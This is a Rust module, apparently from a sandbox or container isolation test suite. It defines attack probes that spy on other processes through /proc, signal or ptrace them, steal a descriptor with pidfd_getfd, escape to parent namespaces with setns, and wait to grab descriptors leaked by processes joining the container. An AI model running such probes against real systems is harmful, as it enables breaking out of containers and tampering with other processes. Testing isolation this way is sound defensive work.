//! At processes of the machine and of the runner.

use std::fs;
use std::os::fd::AsRawFd;

use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;

use super::{Attack, Outcome, answer, any, fact};

pub const ALL: &[Attack] = &[
    ("see", see),
    ("kill", kill_one),
    ("kill-all", kill_all),
    ("trace", trace),
    ("pidfd", pidfd),
    ("parent-namespaces", parent_namespaces),
    ("join", join),
    ("lie-in-wait", lie_in_wait),
];

fn victim() -> i32 {
    fact("VICTIM").parse().unwrap_or(0)
}

/// The command lines of others: the victim has a word in its own.
fn see() -> Outcome {
    let word = fact("VICTIM_WORD");
    let mut lines = fs::read_dir("/proc").into_iter().flatten().flatten().map(|it| it.path().join("cmdline"));
    let found = lines.find(|path| {
        let line = fs::read(path).unwrap_or_default();
        let has = line.windows(word.len().max(1)).any(|it| it == word.as_bytes());
        // Its own orders hold the word as well, in the environment only.
        has && !path.starts_with(format!("/proc/{}", std::process::id()))
    });
    found.map(|path| path.display().to_string()).ok_or_else(|| "nothing of it in /proc".to_owned())
}

/// By its number on the machine. Whether it is the victim that has got the signal, the victim knows.
fn kill_one() -> Outcome {
    kill(Pid::from_raw(victim()), Signal::SIGUSR1).map(|()| "a process".to_owned()).map_err(|errno| errno.to_string())
}

/// Everybody who may be killed at all.
fn kill_all() -> Outcome {
    kill(Pid::from_raw(-1), Signal::SIGUSR1).map(|()| "somebody".to_owned()).map_err(|errno| errno.to_string())
}

fn trace() -> Outcome {
    let target = if victim() > 0 { victim() } else { 1 };
    // SAFETY: numbers only; who is attached to runs on when this process ends.
    let done = unsafe { libc::ptrace(libc::PTRACE_SEIZE, target, 0, 0) };
    answer(done).map(|_| format!("process {target}"))
}

/// The descriptors of others.
fn pidfd() -> Outcome {
    let target = if victim() > 0 { victim() } else { 1 };
    // SAFETY: numbers only.
    let pidfd = answer(unsafe { libc::syscall(libc::SYS_pidfd_open, target, 0) })?;
    // SAFETY: a descriptor of ours, and numbers.
    let taken = unsafe { libc::syscall(libc::SYS_pidfd_getfd, pidfd, 0, 0) };
    answer(taken).map(|_| format!("the input of process {target}"))
}

/// What is above one's own namespaces, by asking for it.
fn parent_namespaces() -> Outcome {
    const NS_GET_USERNS: libc::c_ulong = 0xb701;
    const NS_GET_PARENT: libc::c_ulong = 0xb702;
    any(["user", "pid", "mnt"].into_iter().flat_map(|name| [(name, NS_GET_USERNS), (name, NS_GET_PARENT)]).map(
        |(name, ask)| {
            let own = fs::File::open(format!("/proc/self/ns/{name}")).map_err(|error| error.to_string())?;
            // SAFETY: an open descriptor and a request that takes nothing more.
            let fd = answer(unsafe { libc::ioctl(own.as_raw_fd(), ask as _) }.into())?;
            // SAFETY: a descriptor that was just given to us.
            let done = unsafe { libc::setns(i32::try_from(fd).unwrap_or(-1), 0) };
            answer(done.into()).map(|_| format!("what is above {name}"))
        },
    ))
}

/// The namespaces of whoever can be seen, but for one's own.
fn join() -> Outcome {
    let mut tries = Vec::new();
    for process in fs::read_dir("/proc").into_iter().flatten().flatten() {
        for name in ["mnt", "pid", "user", "net", "cgroup"] {
            let (path, own) = (process.path().join("ns").join(name), format!("/proc/self/ns/{name}"));
            if fs::read_link(&path).ok() == fs::read_link(own).ok() {
                continue;
            }
            let Ok(file) = fs::File::open(&path) else { continue };
            // SAFETY: an open descriptor; it changes this process, which ends after the attack.
            let done = unsafe { libc::setns(file.as_raw_fd(), 0) };
            tries.push(answer(done.into()).map(|_| path.display().to_string()));
        }
    }
    any(tries)
}

/// Who joins the container (exec, a probe) comes from the node, and has what the node has until its program is
/// started. Looks for that moment, for as long as WAIT says: a file of the runner's, its memory, its environment.
fn lie_in_wait() -> Outcome {
    let until = std::time::Instant::now() + std::time::Duration::from_millis(fact("WAIT").parse().unwrap_or(3000));
    let own = std::process::id();
    let (mut seen, mut last) = (0, own);
    while std::time::Instant::now() < until {
        // The numbers of new processes are the next ones.
        for pid in last + 1..last + 20 {
            let place = format!("/proc/{pid}");
            if fs::metadata(&place).is_err() {
                continue;
            }
            if pid != last {
                (seen, last) = (seen + 1, pid);
            }
            for fd in fs::read_dir(format!("{place}/fd")).into_iter().flatten().flatten() {
                // Its program has three; the runner many.
                let is_more = fd.file_name().to_str().and_then(|it| it.parse::<u32>().ok()).is_some_and(|fd| fd > 2);
                // What it reads itself, when it starts, is a file that there is here.
                if is_more && fs::read_link(fd.path()).is_ok_and(|file| !file.exists()) {
                    return Ok(format!("{} of a process that joined", fd.path().display()));
                }
            }
            if fs::read_link(format!("{place}/root")).is_ok_and(|root| root.starts_with("/host")) {
                return Ok("the root of a process that joined".to_owned());
            }
        }
    }
    Err(format!("nothing of {seen} processes"))
}
